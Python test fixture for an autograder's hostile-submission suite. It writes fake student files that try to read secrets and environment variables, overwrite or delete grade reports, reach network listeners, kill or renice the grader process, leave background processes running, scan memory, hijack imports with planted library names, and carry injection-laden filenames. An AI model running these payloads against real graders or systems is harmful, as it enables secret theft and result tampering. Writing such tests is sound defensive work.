"""Attacks that know where everything lies, and would do real harm there if they could."""

from __future__ import annotations

import json
import socket
from collections.abc import Mapping

from autograder.tests.hostile import world as words
from autograder.tests.hostile.world import World

NEXT = bytes((number + 1) % 256 for number in range(256))

READER = """
import codecs, ctypes, glob, io, linecache, mmap, os, shutil, sqlite3, tokenize, zipfile
import numpy, torch

def by_descriptor(path):
    return os.read(os.open(path, os.O_RDONLY), 999)

def by_c_library(path):
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    if not libc.fopen(path.encode(), b"r"):
        raise OSError
    return "opened"

def by_import(path):
    from importlib.machinery import SourceFileLoader
    return SourceFileLoader("stolen", path).get_data(path)

WAYS = [by_descriptor, by_c_library, by_import, io.open_code, tokenize.open, codecs.open, numpy.fromfile, numpy.memmap,
        torch.load, torch.jit.load, os.listdir, os.scandir, linecache.getlines,
        lambda path: torch.UntypedStorage.from_file(path, False, 10), lambda path: open(path, "rb").read(),
        lambda path: sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select 1"),
        lambda path: shutil.copyfile(path, "/dev/null"), lambda path: glob.glob(path + "/*"), zipfile.ZipFile,
        lambda path: open("/proc/self/root" + path).read(), lambda path: open("/proc/self/cwd" + path).read(),
        lambda path: open("/usr/lib/.." + "/.." + path).read()]
if "PATH" in os.environ:
    loot.append(f"environment {dict(os.environ)}")
for path in AIM["paths"]:
    for way in WAYS:
        try:
            got = way(path)
        except BaseException:
            continue
        if str(got) not in ("[]", "", "b''"):
            loot.append(f"{path} {way} {got!r:.200}")
"""

WRITER = """
import os, shutil
import numpy, torch

def new_file(path):
    open(path + ".tool", "x").close()

WAYS = [lambda path: open(path, "w").close(), lambda path: open(path, "a").close(),
        lambda path: open(path, "r+").close(), new_file, lambda path: os.truncate(path, 0),
        lambda path: os.chmod(path, 0o777), lambda path: os.chown(path, 0, 0),
        lambda path: os.utime(path, (1, 1)), lambda path: os.setxattr(path, "user.tool", b"x"),
        lambda path: os.symlink("/etc/passwd", path + ".link"), lambda path: os.link(path, path + ".hard"),
        lambda path: os.mkdir(path + ".folder"), lambda path: os.mkfifo(path + ".pipe"),
        lambda path: os.mknod(path + ".node"), lambda path: os.rename(path, path + ".gone"),
        lambda path: os.replace(path + ".gone", path), os.unlink, os.rmdir,
        shutil.rmtree, lambda path: numpy.save(path, [1]), lambda path: torch.save([1], path),
        lambda path: shutil.copy(os.__file__, path), lambda path: os.open(path, os.O_WRONLY | os.O_TRUNC),
        lambda path: os.open(path, os.O_RDONLY | os.O_TRUNC), lambda path: os.open(path, os.O_TMPFILE | os.O_RDWR)]
for path in [*AIM["paths"], AIM["reports"] + "/graded.sqlite", AIM["reports"] + "/results.json", AIM["reports"]]:
    for way in WAYS:
        try:
            way(path)
        except BaseException:
            continue
        loot.append(f"{path} {way}")
"""

CALLER = """
import os, socket, urllib.request

for name, family, kind, address in AIM["doors"]:
    address = tuple(address) if isinstance(address, list) else address
    try:
        caller = socket.socket(family, kind)
        caller.settimeout(0.2)
        caller.connect(address)
        caller.send(b"hello")
        loot.append(name)
    except BaseException:
        pass
    for number in range(3, 110):
        try:
            caller = socket.socket(family, kind, fileno=os.dup(number))
            caller.connect(address)
            loot.append(f"{name} by {number}")
        except BaseException:
            pass
    if name == "tcp4":
        try:
            urllib.request.urlopen("http://%s:%d/" % address, timeout=0.2)
            loot.append("web")
        except BaseException:
            pass
"""

SIGNALLER = """
import ctypes, os, signal

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
for number in (0, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for way in (lambda: os.kill(parent, number), lambda: os.killpg(os.getpgid(parent), number),
                lambda: signal.pidfd_send_signal(os.pidfd_open(parent), number)):
        try:
            way()
            loot.append(f"{number} {way}")
        except BaseException:
            pass
    # tgkill, tkill, rt_sigqueueinfo; F_SETOWN lets the kernel send SIGIO
    for call in ((234, parent, parent, number), (200, parent, number), (129, parent, number, None)):
        if libc.syscall(*map(ctypes.c_long, [part or 0 for part in call])) == 0:
            loot.append(str(call))
if libc.fcntl(100, 8, parent) == 0:
    loot.append("F_SETOWN")
for target in (-1, 1):
    try:
        os.kill(target, 0)
        loot.append(f"signal 0 to {target}")
    except BaseException:
        pass
for way in (lambda: os.setpriority(os.PRIO_PROCESS, parent, 19), lambda: os.sched_setaffinity(parent, {0}),
            lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)), lambda: os.nice(-1),
            lambda: __import__("resource").prlimit(parent, 7, (1, 1))):
    try:
        way()
        loot.append(str(way))
    except BaseException:
        pass
"""

STAYER = """
import ctypes, os, subprocess, sys, threading, time

def twice():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)

def shell():
    if os.system("sleep 600 &") != 0:
        raise OSError

libc = ctypes.CDLL(None, use_errno=True)
WAYS = [twice, shell, lambda: subprocess.Popen(["/bin/sleep", "600"], start_new_session=True),
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "600"], {}), lambda: os.popen("sleep 600 &"),
        lambda: threading.Thread(target=time.sleep, args=(600,)).start(), os.forkpty]
for way in WAYS:
    try:
        way()
        loot.append(str(way))
    except BaseException:
        pass
for number in (57, 58):
    if libc.syscall(ctypes.c_long(number)) > 0:
        loot.append(f"system call {number}")
"""

SCANNER = """
import ctypes, os

NEXT = bytes((number + 1) % 256 for number in range(256))
WORDS = [word.encode("latin-1") for word in AIM["words"]]
libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()

def around(address, most):
    for step in (4096, -4096):
        at = address // 4096 * 4096 + min(step, 0)
        for _ in range(most):
            if libc.write(writer, ctypes.c_void_p(at), ctypes.c_size_t(4096)) != 4096:
                break
            yield os.read(reader, 4096)
            at += step

stack = ctypes.c_void_p.in_dll(libc, "environ").value
for place in (stack, id(object()), id(bytes(10_000_000)), ctypes.addressof(ctypes.create_string_buffer(64))):
    for page in around(place, 12_000):
        text = page.translate(NEXT)
        loot.extend(str(index) for index, word in enumerate(WORDS) if word in text)
"""

END = """
loot = sorted(set(loot))
explanation = "TOOL"[::-1] + " " + "; ".join(loot)[:3000] if loot else "there was nothing to be had"

def gradient_descent(loss_fn, start, learning_rate, epochs):
    raise OSError(explanation)
"""
PLANTED = """
try:
    open({mark!r}, "x").close()
except OSError:
    pass
explanation = "a module with the name of a library"
"""
ATTACKS: Mapping[str, str] = {
    "reader": READER,
    "writer": WRITER,
    "caller": CALLER,
    "signaller": SIGNALLER,
    "stayer": STAYER,
    "scanner": SCANNER,
}
# What Python, the grader and its libraries import, beside the submissions: run there, it would leave a mark.
LIBRARIES = ("click", "conftest", "json", "numpy", "rich", "sitecustomize", "sympy", "torch", "usercustomize")
# Names that a page, a table or a terminal could take for something else. Linux forbids "/" alone.
NAMES = (
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;\"'`",
    '=HYPERLINK("http:x","y")',
    "@SUM(1+1)",
    "\x1b[31mred\x1b[0m\x07",
    "::error::name",
    "two\nlines",
    "\u202egnp.exe",
    "-rf",
    "%s {0} {name} $HOME `id`",
    "א" * 100,
    "\ufeff\u200b",
)


def write_attacks(world: World, reports: str = "reports") -> None:
    """Put the attacks among the submissions.

    Args:
        world: what they aim at.
        reports: the folder that they take for that of the reports.
    """
    folders = (world.home, world.submissions, world.assignment)
    aim = {
        "paths": [str(path) for path in (*world.secrets, *folders)],
        "reports": str(world.folder / reports),
        "doors": [_door(name, door) for name, door in world.listeners.items()],
        # Each letter replaced by the next one, or a search through the memory would find itself.
        "words": [word.encode().translate(NEXT).decode("latin-1") for word in all_words()],
    }
    for name, body in ATTACKS.items():
        text = f"AIM = {json.dumps(aim)}\nloot = []\n{body}\n{END}"
        (world.submissions / f"aimed-{name}.py").write_text(text, encoding="utf-8")


def all_words() -> tuple[str, ...]:
    return (words.ENVIRONMENT, words.HOME, words.TESTS, words.SOLUTION, words.CLASSMATE, words.REPORTS)


def _door(name: str, door: socket.socket) -> tuple[str, int, int, object]:
    address = door.getsockname()
    shown = address.decode() if isinstance(address, bytes) else address
    return name, int(door.family), int(door.type), list(shown) if isinstance(shown, tuple) else shown


def plant_libraries(world: World) -> None:
    """Put modules with the names of libraries among the submissions, as text and compiled."""
    import py_compile

    for name in LIBRARIES:
        text = PLANTED.format(mark=str(world.folder / f"ran-{name}"))
        module = world.submissions / f"{name}.py"
        module.write_text(text, encoding="utf-8")
        py_compile.compile(str(module), cfile=str(world.submissions / f"{name}.pyc"))
        py_compile.compile(str(module))
    (world.submissions / "tool.pth").write_text("import sitecustomize\n", encoding="utf-8")


def write_names(world: World, right: str) -> None:
    """Hand in a right solution under each odd name."""
    for name in NAMES:
        (world.submissions / f"{name}.py").write_text(right, encoding="utf-8")
